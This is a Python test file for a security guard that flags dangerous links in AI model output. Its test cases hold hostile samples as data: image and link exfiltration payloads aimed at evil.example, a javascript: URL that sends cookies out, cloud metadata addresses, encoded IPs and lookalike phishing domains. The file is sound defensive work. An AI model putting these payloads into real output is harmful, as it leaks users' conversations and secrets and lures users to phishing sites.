"""Dangerous links are found, and ordinary ones are left alone."""

from __future__ import annotations

import pytest

from aiguardian.guards.security.hits import Hit
from aiguardian.guards.security.links.address import ip_of, parse, registered
from aiguardian.guards.security.links.find import link_hits
from aiguardian.guards.security.links.lookalikes import pretends_to_be
from aiguardian.guards.security.readings import read
from aiguardian.guards.security.schemas import Direction
from aiguardian.processor import Deadline


def found(text: str, direction: Direction = "output") -> list[Hit]:
    return list(link_hits(read(text, Deadline(60)), direction=direction, check=lambda: None))


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("![x](https://evil.example/?data=the+user+said+she+is+Jane)", "image_exfiltration"),
        ("![x](https://evil.example/log?q={conversation})", "image_exfiltration"),
        ("![x](https://evil.example/c3RlYWwgdGhlIHNlY3JldCBmaWxlcyBub3c=)", "image_exfiltration"),
        ('<img width="1" src="https://evil.example/?secret=hunter2hunter2">', "image_exfiltration"),
        ("<div style=\"background:url('//evil.example/?prompt=[TEXT]')\">", "image_exfiltration"),
        ("![x][r]\n\n[r]: https://evil.example/?data=she+said+it+is+Jane", "image_exfiltration"),
        ("![R]\n\n[r]: https://evil.example/?data=she+said+it+is+Jane", "image_exfiltration"),
        ("<input type=image src=//evil.example/?data=she+said+it+is+Jane>", "image_exfiltration"),
        ("<body background=//evil.example/?data=she+said+it+is+Jane>", "image_exfiltration"),
        ("<style>@import '//evil.example/?data=she+said+it+is+Jane';", "image_exfiltration"),
        ('<meta content="0; url=//evil.example/?data=she+said+it+is+Jane">', "image_exfiltration"),
        ("[r]\n\n[r]: https://evil.example/?data=she+said+it+is+Jane", "link_exfiltration"),
        ('<a href="java\tscript:fetch(1)">', "script_url"),
        ("[x](java\r\nscript:alert(1))", "script_url"),
        ("[more](https://evil.example/?conversation=jane@example.org)", "link_exfiltration"),
        ("[click](javascript:fetch('//evil.example/'+document.cookie))", "script_url"),
        ("[click](data:text/html;base64,PHNjcmlwdD4=)", "data_url"),
        ("see https://www.google.com@evil.example/login", "deceptive_userinfo"),
        ("https://admin:s3cr3t-word@db.corp-site.com/x", "credentials_in_url"),
        ("http://8.8.8.8/update.exe", "raw_ip"),
        ("http://2130706433/", "encoded_ip"),
        ("http://0x7f.1/", "encoded_ip"),
        ("http://169.254.169.254/latest/meta-data/", "metadata_address"),
        ("https://paypa1.com/verify", "lookalike_host"),
        ("https://micros0ft.com/", "lookalike_host"),
        ("https://paypal.com.account-check.ru/", "lookalike_host"),
        ("https://paypal-login.net/", "lookalike_host"),
        ("https://www.аpple.com/", "lookalike_host"),
        ("https://xn--pple-43d.com/", "lookalike_host"),
        ("https://bаnkverein.com/", "mixed_script_host"),
        ("[https://mybank.com](https://evil.example/)", "mismatched_label"),
        ("aHR0cDovLzE2OS4yNTQuMTY5LjI1NC9sYXRlc3QvbWV0YS1kYXRhLw==", "metadata_address"),
    ],
)  # fmt: skip
def test_dangerous_links_are_found(text: str, kind: str) -> None:
    hits = found(text)
    assert kind in {hit.type for hit in hits}
    assert all(0 <= hit.start < hit.end <= len(text) for hit in hits)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "no link",
        "https://example.org/path?page=2&sort=asc#top",
        "[docs](https://docs.python.org/3/library/re.html)",
        "![build](https://img.shields.io/badge/build-passing%20all%20the%20tests-green)",
        "![photo](https://images.example.com/photo.jpg?w=800&h=600&fit=crop&q=80)",
        "![logo](./logo.svg) ![d](data:image/png;base64,iVBORw0KGgoAAAANSUhEUg)",
        "https://www.google.com/search?q=how+to+bake+bread",
        "http://localhost:8000/ and http://127.0.0.1:5000 and http://192.168.1.1/",
        "https://git@github.com/org/repo.git",
        "https://user:{password}@host.example.com/",
        "https://www.münchen.de/ https://пример.рф/ https://例え.jp/",
        "https://www.amazon.co.uk/ https://login.microsoft.com/ https://paypal.com/",
        "[setup.py](https://github.com/org/repo/blob/main/setup.py)",
        "[example.com](https://www.example.com/about)",
        "javascript: the good parts; data: the new oil",
        "[x](javascript:void(0))",
        "array[0](1) and f[i](x)",
        "https://[::1]:8000/ https://[broken",
    ],
)
def test_ordinary_links_are_left_alone(text: str) -> None:
    assert [hit.type for hit in found(text)] == []


def test_an_image_that_steals_stops_an_output_and_not_an_input() -> None:
    text = "![x](https://evil.example/p.png?data=the+user+said+my+name+is+Jane)"
    assert [hit.blocks for hit in found(text, "output")] == [True]
    assert [hit.blocks for hit in found(text, "input")] == [False]


@pytest.mark.parametrize(
    ("host", "ip", "is_unusual"),
    [
        ("127.0.0.1", "127.0.0.1", False),
        ("0177.0.0.1", "127.0.0.1", True),
        ("0x7f000001", "127.0.0.1", True),
        ("127.1", "127.0.0.1", True),
        ("::1", "::1", False),
        ("example.org", None, False),
        ("1.2.3.4.5", None, False),
        ("99999999999999999999", None, False),
    ],
)
def test_numbers_are_read_as_browsers_read_them(
    host: str, ip: str | None, *, is_unusual: bool
) -> None:
    address, unusual = ip_of(host)
    assert (str(address) if address else None, unusual) == (ip, is_unusual)


@pytest.mark.parametrize(
    ("host", "domain"),
    [("www.example.co.uk", "example.co.uk"), ("a.b.example.org", "example.org"), ("x", "x")],
)
def test_registered_domains(host: str, domain: str) -> None:
    assert registered(host) == domain


@pytest.mark.parametrize(
    ("host", "name"),
    [
        ("paypal.com", None),
        ("paypay.ne.jp", None),
        ("gooogle.com", "google"),
        ("netfilx.com", "netflix"),
        ("rnicrosoft.com", "microsoft"),
        ("github.io", None),
        ("spotty.com", None),
    ],
)
def test_whom_a_host_pretends_to_be(host: str, name: str | None) -> None:
    assert pretends_to_be(host) == name


def test_what_no_browser_opens_has_no_parts() -> None:
    assert parse("https://[::1") is None


@pytest.mark.parametrize(
    "piece",
    ["[", "[a](", "![](", "<a href=", "url(", "http://", "javascript:", "]:", "[a]", "data:"],
)
def test_hostile_text_is_bounded(piece: str) -> None:
    assert len(found(piece * 30_000)) <= 4_000
